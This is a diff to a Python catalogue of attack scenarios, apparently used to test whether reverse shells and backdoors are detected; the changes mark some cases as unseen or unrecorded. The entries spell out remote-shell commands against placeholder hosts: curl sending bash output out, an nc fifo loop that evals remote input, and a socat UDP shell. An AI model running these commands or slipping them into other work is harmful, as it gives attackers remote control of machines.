@@ -3,7 +3,7 @@
 were looked at since."""
 
 from attacks import PROGRAM
-from scenarios import Attack
+from scenarios import Attack, CHILD_CONNECTS, NO_RECORD
 from unusual import through
 
 PYTHON_ASYNC = """\
@@ -361,7 +361,7 @@ ATTACKS = [
            "bash @D@/t 2>&1 | curl -s --data-binary @- http://@H@:@P@/r; done &", needs=("curl",)),
     # ---- I
     Attack("v_loop_vim_job_cron", "I", "editor", "cron", "tcp", "vim -es -N -u NONE -S @D@/v",
-           needs=("vim", "nc.openbsd"), files={"v": VIM_PYTHON}),
+           needs=("vim", "nc.openbsd"), files={"v": VIM_PYTHON}, unseen=CHILD_CONNECTS),
     Attack("v_loop_eval_read_web", "I", "text", "web", "tcp",
            "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | while read -r l; do eval \"$l\"; done "
            ">@D@/f 2>&1", needs=("nc.openbsd",)),
@@ -389,9 +389,9 @@ ATTACKS = [
     Attack("v_door_udp_server_cron", "K", "python", "cron", "udp_bind", "python3 @D@/u.py",
            files={"u.py": PYTHON_UDP_SERVER}),
     Attack("v_door_udp_perl_ssh", "K", "perl", "ssh", "udp_bind", "perl @D@/u.pl &",
-           files={"u.pl": PERL_UDP}),
+           files={"u.pl": PERL_UDP}, unseen=NO_RECORD),
     Attack("v_door_socat_udp_web", "K", "socat", "web", "udp_bind",
-           "socat UDP-RECVFROM:@P@,bind=@V@,fork EXEC:sh", needs=("socat",)),
+           "socat UDP-RECVFROM:@P@,bind=@V@,fork EXEC:sh", needs=("socat",), unseen=NO_RECORD),
     # ---- L
     Attack("v_late_daemon_ssh", "L", "python", "ssh", "tcp", "python3 @D@/l.py",
            files={"l.py": PYTHON_LATE}, patience=260.0),
